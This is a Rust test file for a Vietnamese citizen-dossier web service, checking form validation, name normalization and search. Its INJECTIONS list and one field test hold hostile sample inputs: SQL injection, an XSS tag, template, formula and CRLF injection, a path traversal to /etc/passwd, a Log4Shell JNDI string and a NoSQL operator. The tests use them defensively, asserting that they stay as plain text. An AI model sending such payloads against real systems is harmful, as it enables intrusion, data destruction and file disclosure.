//! Answers that people and attackers give (quality.md B3): a message for each field, or taken as they are.

use kernel_testkit::both_engines;
use serde_json::{Value, json};
use unicode_normalization::UnicodeNormalization;

use crate::{
    harness::{Person, Receipt, Reply, Town},
    outcomes::{BUSINESS, TAM_KY},
};

/// A birth registration, whose form has every kind of field.
const BIRTH: &str = "1.001193";
const TAN_THANH: &str = "000.01.31.H47";

/// Posts a good submission with some answers changed.
async fn with(town: &Town, who: &Person, good: &Value, changes: &Value) -> Reply {
    let mut body = good.clone();
    for (name, value) in changes.as_object().unwrap() {
        body["form"][name] = value.clone();
    }
    town.post(who, "/api/v1/dossiers", &body).await
}

both_engines!(async each_faulty_answer_is_named_by_its_field, Town::open, |town| {
    let citizen = town.citizen("0905700001").await;
    let good = town.application(&citizen, BIRTH, TAN_THANH).await;
    for (field, value, code) in [
        ("applicant_identity", json!("04900000001"), "identity_length"),
        ("applicant_identity", json!("0490000000011"), "identity_length"),
        ("applicant_identity", json!("999000000001"), "identity_province"),
        ("applicant_phone", json!("12345"), "phone"),
        ("applicant_phone", json!("+1 202 555 0100"), "phone"),
        ("applicant_email", json!("an@"), "email"),
        ("child_birth", json!("2021-02-30"), "date_not_real"),
        ("child_birth", json!("30/02/2021"), "date_not_real"),
        ("child_birth", json!("2021"), "date_incomplete"),
        ("child_birth", json!("27/07/2021"), "date_future"),
        ("mother_birth", json!("1880"), "date_too_old"),
        ("child_sex", json!("khac"), "choice"),
        ("birth_commune", json!("2033"), "choice"),
        ("birth_commune", json!("99999"), "commune"),
        ("copies", json!(-1), "too_small"),
        ("copies", json!(1.5), "integer"),
        ("child_name", json!("Nguyễn 123"), "name"),
        ("child_name", json!("😀"), "name"),
        ("child_name", json!("NguyÔn V¨n §øc"), "encoding"),
        ("child_name", json!("a".repeat(101)), "too_long"),
        ("", json!("a".repeat(1_000_000)), "too_large"),
        ("child_name", json!({ "$gt": "" }), "type"),
        ("status", json!("settled"), "unknown_field"),
    ] {
        // A megabyte of a name is refused before its field is looked at.
        let name = if field.is_empty() { "child_name" } else { field };
        let reply = with(&town, &citizen, &good, &json!({ name: value })).await;
        let shown: String = value.to_string().chars().take(40).collect();
        assert_eq!(reply.status, 422, "{field} {shown}: {}", reply.text());
        let faults = reply.faults();
        assert_eq!(faults, [(field.to_owned(), code.to_owned())], "{shown}");
    }
});

both_engines!(async as_many_planted_faults_as_messages_in_one_answer, Town::open, |town| {
    let citizen = town.citizen("0905700002").await;
    let good = town.application(&citizen, BIRTH, TAN_THANH).await;
    let planted = [
        ("applicant_name", json!("")),
        ("applicant_identity", json!("1")),
        ("applicant_phone", json!("x")),
        ("child_name", json!("1")),
        ("child_birth", json!("31/04/2021")),
        ("child_sex", json!("?")),
        ("birth_commune", json!("1")),
        ("mother_birth", json!("chưa rõ")),
        ("copies", json!("hai")),
    ];
    let mut body = good.clone();
    for (many, (name, value)) in planted.iter().enumerate() {
        body["form"][name] = value.clone();
        let faults = town.post(&citizen, "/api/v1/dossiers", &body).await.faults();
        assert_eq!(faults.len(), many + 1, "{faults:?}");
    }
    body["papers"] = json!([]);
    let reply = town.post(&citizen, "/api/v1/dossiers", &body).await;
    let problem = reply.json();
    assert_eq!(reply.faults().len(), planted.len() + 1, "the missing paper comes in the same answer");
    for error in problem["errors"].as_array().unwrap() {
        assert!(error["message"].as_str().is_some_and(|m| m.chars().count() > 10), "{error}");
    }
});

both_engines!(async names_and_dates_that_real_people_have_are_accepted, Town::open, |town| {
    let citizen = town.citizen("0905700003").await;
    for changes in [
        json!({ "child_name": "Y" }),
        json!({ "child_name": "Bh’nướch Mai" }),
        json!({ "child_name": "K'Brêu" }),
        json!({ "father_birth": "1950", "mother_birth": "1970-05" }),
        json!({ "applicant_identity": "201234567" }),
        json!({ "applicant_phone": "+84 905 123 456" }),
        json!({ "applicant_address": "Thôn A Grồng, xã A Tiêng" }),
    ] {
        let good = town.application(&citizen, BIRTH, TAN_THANH).await;
        let receipt = Receipt::of(&with(&town, &citizen, &good, &changes).await);
        let kept = town.look(&citizen, &receipt.code).await["form"].clone();
        for (name, value) in changes.as_object().unwrap() {
            if name != "applicant_phone" {
                assert_eq!(kept[name], *value, "{name}");
            }
        }
    }
});

const INJECTIONS: [&str; 8] = [
    "'; DROP TABLE dossiers; --",
    "1' OR '1'='1",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>#set",
    "=cmd|' /C calc'!A0",
    "%0d%0aSet-Cookie: a=b",
    "../../etc/passwd",
    "${jndi:ldap://x/a}",
];

both_engines!(async injected_text_stays_text, Town::open, |town| {
    let citizen = town.citizen("0905700004").await;
    let clerk = town.officer("tiepnhan.tamky").await;
    for text in INJECTIONS {
        let good = town.application(&citizen, BUSINESS, TAM_KY).await;
        let receipt = Receipt::of(&with(&town, &citizen, &good, &json!({ "business_name": text, "business_address": text })).await);
        let seen = town.look(&citizen, &receipt.code).await;
        assert_eq!((&seen["form"]["business_name"], &seen["form"]["business_address"]), (&json!(text), &json!(text)));
        // The clerk's page shows it as text.
        let page = town.get(&clerk, &format!("/staff/dossiers/{}", receipt.code)).await;
        assert!(page.status.is_success(), "{}", page.text());
        assert!(!page.text().contains("<img src=x"), "{text} is markup");
        assert_eq!(page.text().contains("7*7"), text.contains("7*7"), "{text} was computed");
        town.act(&clerk, &receipt.code, "refuse", json!({ "reason": text })).await.ok();
        let events = town.look(&citizen, &receipt.code).await["events"].clone();
        assert!(events.to_string().contains(&json!(text).to_string()[1..5]), "{events}");
    }
    // And as something to look for: found or not, never an error.
    for text in INJECTIONS {
        let query = percent_encoding::utf8_percent_encode(text, percent_encoding::NON_ALPHANUMERIC).to_string();
        for path in ["/api/v1/procedures?q=", "/search?q="] {
            let reply = town.get(&citizen, &format!("{path}{query}")).await;
            assert!(reply.status.is_success(), "{path}{text}: {}", reply.status);
            assert!(!reply.text().contains("<img src=x"), "{path}{text}");
        }
        assert!(town.get(&clerk, &format!("/api/v1/dossiers?q={query}")).await.status.is_success(), "{text}");
    }
});

both_engines!(async composed_and_decomposed_names_are_one_and_find_each_other, Town::open, |town| {
    let citizen = town.citizen("0905700005").await;
    let clerk = town.officer("tiepnhan.tamky").await;
    let name = "Huỳnh Thị Diệu Ước";
    let forms = [name.nfc().collect::<String>(), name.nfd().collect::<String>(), format!("\u{FEFF}{name}\u{200B}  ")];
    let mut codes = Vec::new();
    for form in &forms {
        let good = town.application(&citizen, BUSINESS, TAM_KY).await;
        let receipt = Receipt::of(&with(&town, &citizen, &good, &json!({ "applicant_name": form })).await);
        assert_eq!(town.look(&citizen, &receipt.code).await["owner"]["name"], name.nfc().collect::<String>());
        codes.push(receipt.code);
    }
    for typed in [forms[0].as_str(), forms[1].as_str(), "huynh thi dieu uoc", "HUỲNH THỊ DIỆU"] {
        let query = percent_encoding::utf8_percent_encode(typed, percent_encoding::NON_ALPHANUMERIC).to_string();
        let found = town.get(&clerk, &format!("/api/v1/dossiers?q={query}")).await.ok();
        assert_eq!(found["items"].as_array().unwrap().len(), codes.len(), "{typed}");
    }
    // A real “Đ” and its look-alike of Iceland are the same letter to a search.
    for typed in ["đăng ký khai sinh", "Ðăng ký khai sinh", "dang ky khai sinh", "dang ky khai sihn"] {
        let query = percent_encoding::utf8_percent_encode(typed, percent_encoding::NON_ALPHANUMERIC).to_string();
        let found = town.get(&citizen, &format!("/api/v1/procedures?q={query}")).await.ok();
        assert_eq!(found["items"][0]["code"], BIRTH, "{typed}");
    }
});
